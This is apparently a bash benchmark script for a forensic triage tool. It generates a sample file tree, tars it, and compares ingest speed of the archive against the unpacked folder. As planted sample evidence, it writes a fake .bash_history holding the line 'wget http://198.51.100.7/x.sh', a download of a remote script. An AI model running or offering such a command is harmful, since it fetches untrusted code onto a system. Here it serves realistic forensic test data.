#!/usr/bin/env bash
# Archive benchmark (issue 12): a triage tar.gz (a generated auth.log of ~SIZE_MB plus a few small
# files in a plain file-system layout) against the same files unpacked, both ingested into fresh
# cases in the same run with the Release CLI. Prints seconds, MB/s and the archive/unpacked speed
# ratio (target: >= 80 %). The archive is read without unpacking: streamed, members spooled once
# (memory up to 16 MiB, else a private 0700 temporary folder).
# Usage: bench/archive.sh [SIZE_MB]   (default 1024; ~130 bytes per generated line)
set -euo pipefail
source "$(dirname "$0")/common.sh"
size_mb=${1:-1024}
bench_setup $(( size_mb * 1024 * 1024 / 130 ))
tree="$work/archive-tree-$lines"
if [ ! -d "$tree" ]; then
  mkdir -p "$tree/var/log" "$tree/etc" "$tree/root" "$tree/home/alice/.ssh"
  cp "$log" "$tree/var/log/auth.log"
  echo "bench01" > "$tree/etc/hostname"
  printf 'id\nwget http://198.51.100.7/x.sh\n' > "$tree/root/.bash_history"
  echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBench alice@bench" > "$tree/home/alice/.ssh/authorized_keys"
  touch -d "2024-12-31 23:00:00" "$tree/var/log/auth.log"
fi
archive="$work/triage-$lines.tar.gz"
[ -f "$archive" ] || tar -C "$tree" -czf "$archive" var etc root home
bytes=$(du -sb "$tree" | cut -f1)
# One ingest into a fresh case: prints "seconds cpu_seconds peak_rss_mb" (GNU time: wall, user+sys, max RSS).
# CPU seconds are the steadier figure when other work shares the machine: wall time then measures the load too.
run() { # name path
  rm -f "$work/$1.db" "$work/$1.db.lock"
  /usr/bin/time -f "%e %U %S %M" -o "$work/$1.time" "$tl" ingest "$2" --case "$work/$1.db" > "$work/$1.out" || true
  tail -n 1 "$work/$1.time" | awk '{printf "%s %.2f %d\n", $1, $2 + $3, $4 / 1024}'
}
mb=$(echo "$bytes / 1048576" | bc -l)
printf 'content %.1f MB (unpacked folder), archive %.1f MB compressed\n' "$mb" "$(echo "$(stat -c %s "$archive") / 1048576" | bc -l)"
# Alternating runs, so both sides see the same machine load; the ratios are taken of the best runs.
best_u=999999; best_p=999999; cpu_u=999999; cpu_p=999999
for i in 1 2 3; do
  read -r tu cu ru < <(run unpacked "$tree")
  read -r tp cp rp < <(run packed "$archive")
  printf 'run %d: unpacked %.2f s (%.1f MB/s; CPU %.2f s; peak RSS %d MB) | tar.gz %.2f s (%.1f MB/s of content; CPU %.2f s; peak RSS %d MB)\n' \
    "$i" "$tu" "$(echo "$mb / $tu" | bc -l)" "$cu" "$ru" "$tp" "$(echo "$mb / $tp" | bc -l)" "$cp" "$rp"
  best_u=$(echo "if ($tu < $best_u) $tu else $best_u" | bc -l)
  best_p=$(echo "if ($tp < $best_p) $tp else $best_p" | bc -l)
  cpu_u=$(echo "if ($cu < $cpu_u) $cu else $cpu_u" | bc -l)
  cpu_p=$(echo "if ($cp < $cpu_p) $cp else $cpu_p" | bc -l)
done
printf 'archive speed = %.0f %% of unpacked by wall time, %.0f %% by CPU time, best against best (target >= 80 %%)\n' \
  "$(echo "100 * $best_u / $best_p" | bc -l)" "$(echo "100 * $cpu_u / $cpu_p" | bc -l)"
printf 'load average at the end: %s\n' "$(cut -d' ' -f1-3 /proc/loadavg)"
tail -n 1 "$work/unpacked.out"
tail -n 1 "$work/packed.out"
